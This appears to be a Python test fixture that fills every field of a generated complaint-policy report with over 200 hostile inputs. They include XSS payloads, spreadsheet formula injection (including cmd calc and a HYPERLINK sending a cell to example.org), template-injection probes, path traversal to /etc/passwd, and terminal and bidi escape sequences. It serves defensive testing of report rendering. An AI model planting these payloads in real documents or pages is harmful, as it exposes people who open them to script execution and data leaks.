"""Words that somebody may write to harm whoever opens a report: two hundred and more, put into every place that a report shows."""

from __future__ import annotations

from dataclasses import replace
from functools import cache

from factories import policy, report
from ombudscan.nouns import Dismissal, Dismissed, Report

_RUN = ("alert(1)", "window.hit=1;alert(1)")
_HTML = (
    "<script>{}</script>",
    "<ScRiPt >{}</ScRiPt >",
    "<script/x>{}</script>",
    "</style><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    "<img/src=x/onerror={}>",
    "<image src=x onerror={}>",
    '"><svg onload={}>',
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{}><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={}></svg>#x'/></svg>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<math><a xlink:href=javascript:{}>x</a></math>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<form action='javascript:{}'><input type=submit autofocus></form>",
    "<button formaction='javascript:{}'>x</button>",
    "<input onfocus={} autofocus>",
    "<select onfocus={} autofocus></select>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<body onload={}>",
    "<body onpageshow={}>",
    "<marquee onstart={}>x</marquee>",
    "<div onpointerover={}>x</div>",
    "<div style='animation:x' onanimationstart={}>x</div>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'></noscript>",
    "<table background='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<link rel=stylesheet href='data:text/css,*{{}}' onload={}>",
    '" onmouseover="{}" x="',
    "' autofocus onfocus='{}' x='",
    "` onfocus={} `",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\u00bcscript\u00be{}\u00bc/script\u00be",
    "<\u0131frame onload={}>",
    "<<script>{}//<</script>",
    "{{{{ ''.__class__.__mro__ }}}}{}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{}{{% endfor %}}",
)
_REMOTE = (
    "<img src=https://example.org/x.png>",
    "<link rel=stylesheet href=https://example.org/x.css>",
    "<link rel=preconnect href=https://example.org>",
    "<style>@import 'https://example.org/x.css'</style>",
    "<style>body{background:url(https://example.org/x.png)}</style>",
    "<meta http-equiv=refresh content='0;url=https://example.org'>",
    "<base href='https://example.org/'>",
    "<form action='https://example.org'><input name=q></form>",
    "<iframe src='https://example.org'></iframe>",
    "<object data='https://example.org'></object>",
    "<video poster=https://example.org/x.png></video>",
    "<svg><image href='https://example.org/x.svg'/></svg>",
    "<svg><use href='https://example.org/x.svg#a'/></svg>",
    "<a ping=https://example.org href=#>x</a>",
    "https://example.org/",
    "//example.org/x",
    "mailto:a@example.org",
    "file:///etc/passwd",
    "\\\\example.org\\share",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
)
_BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "'=", '"=', ";=", ",=", "{=", "=-")
_FORMULAS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://example.org?"&A1,"x")', "IMPORTXML(CONCAT(A1),'//a')", "SUM(1,1)*cmd")
_TERMINAL = (
    "\x1b[31mred", "\x1b[2J", "\x1b]0;title\x07", "\x1b]8;;https://example.org\x1b\\x\x1b]8;;\x1b\\", "\x1bP+q544e\x1b\\", "\x9b31m", "\x9d0;x\x9c",
    "a\rb", "a\x08\x08b", "\x07", "\x00", "\x0e\x0f", "\x7f", "\x85", "\u2028x", "\u2029x",
    "\u202egnp.exe", "\u2066x\u2069", "\u200f\u200ex", "\ufeffx", "\ufffe", "\ud800", "\U000e0041", "a\u0300" * 40,
)  # fmt: skip
_FORMS = ("<w:t>x</w:t>", "</w:t></w:r><w:p/>", "_x000D__x0041_", "%s%n%x", "../../etc/passwd", "CON.txt", "a" * 5000, "]]>", "<!--", "<?xml version='1.0'?>", "&x;",
          "(\\) Tj ET", "%PDF-1.7 endobj", "🏠" * 30, "\N{HEBREW LETTER ALEF}\N{ARABIC LETTER BEH}", "NaN", "1e999", "TRUE", "2026-01-01", "007")  # fmt: skip
PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(x.format(run) for run in _RUN for x in _HTML),
            *_REMOTE,
            *(b + f for b in _BEGINNINGS for f in _FORMULAS),
            *_TERMINAL,
            *_FORMS,
        )
    )
)
assert len(PAYLOADS) >= 200


@cache
def _plain() -> Report:
    return report(policy("# Stage 1", "We answer at stage 1 within thirty working days of the acknowledgement."))


def holding(text: str) -> Report:
    """A report that holds `text` wherever a document, its file, its metadata or a person's notes can put it."""
    r = _plain()
    e = r.evidence
    document = replace(
        e.document,
        source=text,
        text=e.document.text,
        notices=(),
        blocks=tuple(replace(b, label=text, path=(text,)) for b in e.document.blocks),
        info=(("title", text),),
    )
    identity = replace(e.identity, landlord=text, title=text, reason=text)
    findings = tuple(
        replace(f, message=text, advice=text, quote=text, because=(text,), location=replace(f.location, heading=text, label=text))
        for f in r.findings
    )
    dismissal = Dismissal(rule=text, provision=text, fingerprint=text, words=text, reason=text, name=text, date=text)
    return replace(
        r,
        evidence=replace(e, document=document, identity=identity),
        findings=findings,
        dismissed=(Dismissed(finding=findings[0], dismissal=dismissal),),
        stale=(dismissal,),
    )


def all_of_them(which: int = 0) -> Report:
    """A report with a finding for each of the payloads; the payload numbered `which` is the file's name, the title and so on."""
    r = holding(PAYLOADS[which])
    first = r.findings[0]
    said = [
        (x, replace(first, message=x, advice=x, quote=x, because=(x,), location=replace(first.location, heading=x, label=x)))
        for x in PAYLOADS
    ]
    return replace(r, findings=tuple(f for _, f in said))
